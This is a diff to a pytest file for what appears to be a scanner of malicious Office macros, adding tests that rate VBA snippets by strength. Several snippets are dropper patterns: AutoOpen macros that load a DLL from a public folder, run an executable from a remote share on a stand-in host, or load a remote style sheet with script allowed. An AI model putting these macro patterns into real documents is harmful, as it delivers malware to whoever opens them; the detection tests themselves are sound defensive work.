@@ -43,8 +43,8 @@ def test_honest_macros_are_a_hint_at_most(application: str, name: str, source: s
 
 
 def test_there_are_enough_of_both() -> None:
-    assert len(texts("droppers.bas")) >= 40
-    assert len(texts("honest.bas")) >= 75
+    assert len(texts("droppers.bas")) >= 70
+    assert len(texts("honest.bas")) >= 96
 
 
 @pytest.mark.parametrize(
@@ -96,3 +96,49 @@ def test_damaged_text_is_read(cut: int, at: int, sign: str) -> None:
     whole = "\n".join(source for _, _, source in texts("droppers.bas"))
     start = at % len(whole)
     said(whole[start : start + cut] + sign + whole[start + cut + 1 : start + cut + 500])
+
+
+@pytest.mark.parametrize(
+    ("place", "strength"),
+    [
+        (r"C:\ProgramData\a.dll", Strength.HINT),
+        (r"C:\Users\Public\a.dll", Strength.HINT),
+        (r"C:\ProgramData\House\a.dll", None),
+        (r"C:\Users\suzuki\source\a.dll", None),
+    ],
+)
+def test_a_library_declared_in_an_open_folder_is_a_hint(place: str, strength: Strength | None) -> None:
+    source = f'Private Declare PtrSafe Sub Go Lib "{place}" ()\nSub AutoOpen()\nGo\nEnd Sub'
+    assert [one.strength for one in said(source)] == ([strength] if strength else [])
+
+
+@pytest.mark.parametrize(
+    ("server", "strength"),
+    [("192.0.2.8", Strength.STRONG), ("host.example.com@ssl", Strength.STRONG), ("10.1.2.3", None), ("files.example.jp", None)],
+)
+def test_whose_share_a_program_is_on_decides(server: str, strength: Strength | None) -> None:
+    source = f'Sub AutoOpen()\nShell "\\\\{server}\\pub\\a.exe", vbNormalFocus\nEnd Sub'
+    assert [one.strength for one in said(source)] == ([strength] if strength else [])
+
+
+@pytest.mark.parametrize("version", ["MSXML2.DOMDocument.6.0", "MSXML2.FreeThreadedDOMDocument.6.0"])
+def test_a_style_sheet_that_may_run_no_script_is_not_strong(version: str) -> None:
+    source = f'Sub AutoOpen()\nSet x = CreateObject("{version}")\nx.Load "http://s0.example.com/a.xsl"\nx.transformNode x\nEnd Sub'
+    assert [one.strength for one in said(source) if one.strength is Strength.STRONG] == []
+    allowed = source.replace("x.Load", 'x.setProperty "AllowXsltScript", True\nx.Load')
+    assert [one.strength for one in said(allowed)] == [Strength.STRONG]
+
+
+def test_a_fetched_text_of_another_procedure_is_not_what_is_run() -> None:
+    source = """
+Sub Workbook_Open()
+h.Open "GET", "https://www.example.jp/a.txt", False
+t = h.responseText
+Start
+End Sub
+Sub Start()
+t = Range("A1")
+Shell t, vbNormalFocus
+End Sub
+"""
+    assert [one.strength for one in said(source, "excel") if one.strength is Strength.STRONG] == []
